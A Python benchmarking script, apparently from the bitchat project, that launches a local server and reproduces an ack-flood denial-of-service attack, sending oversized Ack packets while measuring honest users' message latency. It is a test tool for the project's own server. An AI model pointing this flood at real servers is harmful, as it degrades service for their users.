"""Reproduce the ack flood against a real standalone server; print honest senders' latency.

One attacker connection logs in and sends ``Ack`` packets of ``--ack-ids`` message
ids, ``--ack-rate`` a second, without waiting for their answers; meanwhile
``--senders`` honest pairs of users send one-to-one messages in a closed loop
(each send waits for its SendAck). The script starts ``bitchat server`` from the
``bitchat`` it imports (run it with ``PYTHONPATH=src`` from a worktree) on
``--port``, with its database in a temporary folder, and prints one JSON line:
the honest SendAck latency percentiles (ms), their throughput (messages/s), and
what the attacker got back.

    PYTHONPATH=src python3 tools/ack_flood.py --port 19210
    PYTHONPATH=src python3 tools/ack_flood.py --port 19210 --ack-ids 0   # no attack
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import struct
import subprocess
import sys
import tempfile
import threading
import time
from typing import Any

import msgpack

from bitchat.im.client import IMClient

_HEADER = struct.Struct(">BBBBHII")
_ACK, _LOGIN = 114, 103


def _frame(type_: int, body: Any, rid: int) -> bytes:
    raw: bytes = msgpack.packb(body, use_bin_type=True)
    return _HEADER.pack(0xBC, 1, 2, 0, type_, rid, len(raw)) + raw


async def _read_frame(reader: asyncio.StreamReader) -> tuple[int, int, Any]:
    head = await reader.readexactly(14)
    _, _, _, _, type_, rid, n = _HEADER.unpack(head)
    return type_, rid, msgpack.unpackb(await reader.readexactly(n), raw=False)


async def attacker(port: int, ids: int, rate: float, stop: asyncio.Event) -> dict[str, int]:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(_frame(_LOGIN, {"name": "mallory", "password": "secret"}, 1))
    await _read_frame(reader)
    answers: dict[str, int] = {"sent": 0}

    async def read() -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
            while True:
                type_, _, body = await _read_frame(reader)
                key = body.get("code", "ok") if type_ == 3 else "ok"
                answers[key] = answers.get(key, 0) + 1

    reading = asyncio.ensure_future(read())
    # Large ids: 9 bytes each in MessagePack, as the 1 MiB flood had (116,000 of them).
    base = 1 << 62
    rid = 1
    started = time.perf_counter()
    while not stop.is_set():
        rid += 1
        msg_ids = [base + random.getrandbits(40) for _ in range(ids)]
        writer.write(_frame(_ACK, {"msg_ids": msg_ids}, rid))
        answers["sent"] += 1
        await writer.drain()
        wake = started + answers["sent"] / rate
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), max(0.0, wake - time.perf_counter()))
    reading.cancel()
    writer.close()
    return answers


async def sender(port: int, i: int, stop: asyncio.Event, lat: list[float]) -> None:
    a = IMClient("127.0.0.1", port)
    b = IMClient("127.0.0.1", port)
    await a.connect()
    await b.connect()
    await a.login(f"a{i}", "secret")
    ok = await b.login(f"b{i}", "secret")
    try:
        while not stop.is_set():
            t = time.perf_counter()
            await a.send_p2p(ok.user_id, "hello there, a message of an honest size")
            lat.append(time.perf_counter() - t)
    finally:
        await a.close()
        await b.close()


def _pct(xs: list[float], q: float) -> float:
    xs = sorted(xs)
    return round(1000 * xs[min(len(xs) - 1, int(q * len(xs)))], 2) if xs else float("nan")


async def run(args: argparse.Namespace) -> dict[str, Any]:
    stop = asyncio.Event()
    lat: list[float] = []
    senders = [asyncio.ensure_future(sender(args.port, i, stop, lat)) for i in range(args.senders)]
    await asyncio.sleep(args.warmup)
    lat.clear()
    attack = None
    if args.ack_ids:
        attack = asyncio.ensure_future(attacker(args.port, args.ack_ids, args.ack_rate, stop))
    await asyncio.sleep(args.duration)
    n = len(lat)
    stop.set()
    await asyncio.gather(*senders)
    answers = await attack if attack is not None else {}
    return {
        "ack_ids": args.ack_ids,
        "ack_rate": args.ack_rate,
        "senders": args.senders,
        "sends": n,
        "msgs_per_s": round(n / args.duration, 1),
        "p50_ms": _pct(lat[:n], 0.50),
        "p99_ms": _pct(lat[:n], 0.99),
        "max_ms": _pct(lat[:n], 1.0),
        "attacker": answers,
    }


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--port", type=int, default=19210)
    p.add_argument("--ack-ids", type=int, default=116_000, help="ids per Ack (0: no attack)")
    p.add_argument("--ack-rate", type=float, default=5.0, help="Acks per second")
    p.add_argument("--senders", type=int, default=8, help="honest sending pairs")
    p.add_argument("--duration", type=float, default=10.0)
    p.add_argument("--warmup", type=float, default=2.0)
    p.add_argument("--rate-limit", default="0", help="the server's rate_limit (0: off)")
    args = p.parse_args()
    env = dict(os.environ)
    env.update(BITCHAT_PASSWORD_HASH_TIME_COST="1", BITCHAT_PASSWORD_HASH_MEMORY_KIB="8")
    with tempfile.TemporaryDirectory() as data:
        command = [sys.executable, "-m", "bitchat", "server", "--host", "127.0.0.1"]
        command += ["--port", str(args.port), "--data-dir", data, "--rate-limit", args.rate_limit]
        server = subprocess.Popen(
            command,
            env=env,
            stderr=subprocess.PIPE,
            text=True,
        )
        try:
            assert server.stderr is not None
            for line in server.stderr:  # wait for the line that says it listens
                if "server started" in line:
                    break
            else:
                raise SystemExit("the server did not start")
            # Keep reading its log, so a full pipe never blocks it.
            threading.Thread(target=server.stderr.read, daemon=True).start()
            print(json.dumps(asyncio.run(run(args))))
        finally:
            server.terminate()
            server.wait(10)


if __name__ == "__main__":
    main()
